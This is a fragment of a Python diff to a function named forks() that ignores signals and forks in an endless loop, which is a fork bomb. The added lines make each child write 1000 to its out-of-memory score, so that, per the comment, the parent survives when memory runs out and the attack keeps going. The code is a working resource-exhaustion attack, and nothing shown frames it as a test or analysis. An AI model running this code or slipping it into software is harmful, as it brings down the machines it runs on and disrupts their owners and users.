@@ -212,7 +212,10 @@ def forks():
         signal.signal(number, signal.SIG_IGN)
     while True:
         try:
-            os.fork()
+            if os.fork() == 0:
+                # Should memory run out, the first of us is to stay.
+                with open("/proc/self/oom_score_adj", "w") as f:
+                    f.write("1000")
         except OSError:
             pass
 
